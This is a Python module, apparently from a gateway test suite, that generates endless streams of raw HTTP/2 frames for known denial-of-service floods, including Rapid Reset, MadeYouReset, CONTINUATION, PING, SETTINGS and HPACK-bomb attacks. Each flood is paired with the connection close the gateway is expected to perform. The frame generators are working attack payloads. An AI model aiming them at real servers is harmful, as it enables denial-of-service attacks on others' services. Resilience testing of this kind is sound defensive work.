"""HTTP/2 floods: what each sends, as an endless stream of frames.

A flood is a generator of `(bytes, units)`; the pump sends it until the gateway closes the
connection or the time is over. The frames are legal or nearly so: what makes the attack is
that each costs the client less than the server.
"""

import itertools
import pathlib
import struct
import sys
from dataclasses import dataclass

HERE = pathlib.Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent / "clients"), str(HERE.parent / "corpus")]

from wire import END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, integer, literal  # noqa: E402
from world import API, VAULT, item  # noqa: E402

DATA, PRIORITY, PING, WINDOW_UPDATE, CONTINUATION, UNKNOWN = 0, 2, 6, 8, 9, 0xEE
END_HEADERS = 0x4
# The GOAWAY code that says "you are abusing this connection": ENHANCE_YOUR_CALM.
CALM = 11
# Closed without a word.
CUT = -1
# Units in one write: enough to keep the gateway busy, little enough to stop in time.
BATCH = 500
HELLO = PREFACE + frame(SETTINGS, 0, 0)
CANCEL = struct.pack(">I", 8)
LARGEST_WINDOW = struct.pack(">I", 0x7FFFFFFF)


def request(authority, method="GET", path="/", token=None, extra=()):
    """A header block."""
    fields = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]
    if token:
        fields.append(("authorization", f"Bearer {token}"))
    return literal([*fields, *extra])


def streams():
    """Stream numbers of a client, until there are none left."""
    return iter(range(1, 1 << 31, 2))


def batches(unit, opening=HELLO):
    """The opening, then `unit()` over and over."""
    yield opening, 0
    while True:
        yield b"".join(unit() for _ in range(BATCH)), BATCH


def rapid_reset(authority, token):
    """CVE-2023-44487: a request is opened and at once cancelled."""
    block, ids = request(authority, path=f"{VAULT}?{API}", token=token), streams()

    def unit():
        own = next(ids)
        return frame(HEADERS, END_HEADERS | END_STREAM, own, block) + frame(RST_STREAM, 0, own, CANCEL)

    return batches(unit)


def rapid_reset_stranger(authority, _):
    """The same by a client without a token."""
    return rapid_reset(authority, None)


def made_you_reset(authority, _):
    """CVE-2025-8671: the window of an open stream overflows, so that the server resets it."""
    block, ids = request(authority, "POST", extra=[("content-length", "1")]), streams()

    def unit():
        own = next(ids)
        return frame(HEADERS, END_HEADERS, own, block) + frame(WINDOW_UPDATE, 0, own, LARGEST_WINDOW)

    return batches(unit)


def made_you_reset_length(authority, _):
    """The same by a body longer than its declared length."""
    block, ids = request(authority, "POST", extra=[("content-length", "1")]), streams()

    def unit():
        own = next(ids)
        return frame(HEADERS, END_HEADERS, own, block) + frame(DATA, END_STREAM, own, b"{}")

    return batches(unit)


def made_you_reset_header(authority, _):
    """The same by a header that HTTP/2 forbids."""
    block, ids = request(authority, extra=[("connection", "keep-alive")]), streams()
    return batches(lambda: frame(HEADERS, END_HEADERS | END_STREAM, next(ids), block))


def continuation(authority, _):
    """CVE-2024-27316 and kin: a header block without end, in small legal pieces."""
    piece = frame(CONTINUATION, 0, 1, literal([("x-more", "v" * 100)]))
    return batches(lambda: piece, HELLO + frame(HEADERS, END_STREAM, 1, request(authority)))


def continuation_empty(authority, _):
    """The same with nothing in the pieces: no limit of size is ever met."""
    piece = frame(CONTINUATION, 0, 1)
    return batches(lambda: piece, HELLO + frame(HEADERS, END_STREAM, 1, request(authority)))


def settings(_, __):
    """CVE-2019-9515: every SETTINGS asks for an acknowledgement."""
    turns = itertools.cycle([4096, 0])
    return batches(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, next(turns))))


def settings_window(authority, _):
    """Every change of the initial window touches every open stream: dear to handle, cheap to send."""
    block, turns = request(authority, "POST", extra=[("content-length", "9")]), itertools.cycle([0, 65535])
    opening = HELLO + b"".join(frame(HEADERS, END_HEADERS, own, block) for own in range(1, 200, 2))
    return batches(lambda: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, next(turns))), opening)


def ping(_, __):
    """CVE-2019-9512: every PING asks for an answer."""
    return batches(lambda: frame(PING, 0, 0, b"12345678"))


def empty_data(authority, _):
    """CVE-2019-9518, RUSTSEC-2026-0258: DATA without data on a stream that nobody reads."""
    block = request(authority, "POST", extra=[("content-type", "application/json")])
    return batches(lambda: frame(DATA, 0, 1), HELLO + frame(HEADERS, END_HEADERS, 1, block))


def empty_data_read(authority, token):
    """The same on a stream whose body is read, because its caller is known."""
    block = request(authority, "POST", f"{item('vm1')}/backup?{API}", token,
                    [("content-type", "application/json")])
    return batches(lambda: frame(DATA, 0, 1), HELLO + frame(HEADERS, END_HEADERS, 1, block))


def hpack_bomb(authority, _):
    """CVE-2016-6581: one large entry of the table, named thousands of times by one byte each."""
    value = b"v" * 4000
    stored = b"\x40" + integer(1) + b"x" + integer(len(value)) + value
    ids, plain = streams(), request(authority)
    first = frame(HEADERS, END_HEADERS | END_STREAM, next(ids), plain + stored)
    bomb = plain + b"\xbe" * (16_384 - len(plain))
    yield HELLO + first, 0
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(ids), bomb) for _ in range(8)), 8


def window_update(_, __):
    """The connection's window is widened byte by byte."""
    return batches(lambda: frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def priority(_, __):
    """CVE-2019-9513: priorities of streams that do not exist yet, each hung under another."""
    ids = itertools.cycle(range(1, 2_000_001, 2))

    def unit():
        own = next(ids)
        return frame(PRIORITY, 0, own, struct.pack(">IB", own + 2, 7))

    return batches(unit)


def unknown(_, __):
    """Frames of a kind that must be ignored, as large as allowed."""
    big = frame(UNKNOWN, 0, 0, b"\0" * 16_384)
    yield HELLO, 0
    while True:
        yield big * 16, 16


@dataclass
class Flood:
    """A flood, and what makes it one."""

    stream: object
    # How the gateway must end the connection, if it must: `CALM` or `CUT`.
    ended: int | None
    # Whether the client reads what it is answered.
    reads: bool = True
    connections: int = 4
    # How long at least, seconds: some harm shows late.
    lasts: float = 0
    # Fewer units than this were no flood.
    least: int = 1_000


FLOODS = {
    "rapid-reset": Flood(rapid_reset, CALM),
    "rapid-reset-stranger": Flood(rapid_reset_stranger, CALM),
    "made-you-reset-window": Flood(made_you_reset, CALM),
    "made-you-reset-length": Flood(made_you_reset_length, CALM),
    "made-you-reset-header": Flood(made_you_reset_header, CALM),
    "continuation": Flood(continuation, CALM),
    "continuation-empty": Flood(continuation_empty, CALM),
    "settings": Flood(settings, CUT),
    "settings-unread": Flood(settings, CUT, reads=False),
    "settings-window": Flood(settings_window, CUT, connections=16, lasts=3),
    "ping": Flood(ping, CUT),
    "ping-unread": Flood(ping, CUT, reads=False),
    "empty-data": Flood(empty_data, CUT),
    "empty-data-read": Flood(empty_data_read, CUT),
    "hpack-bomb": Flood(hpack_bomb, None, least=100),
    "window-update": Flood(window_update, CUT),
    "priority": Flood(priority, CUT),
    "unknown-frames": Flood(unknown, CUT),
}
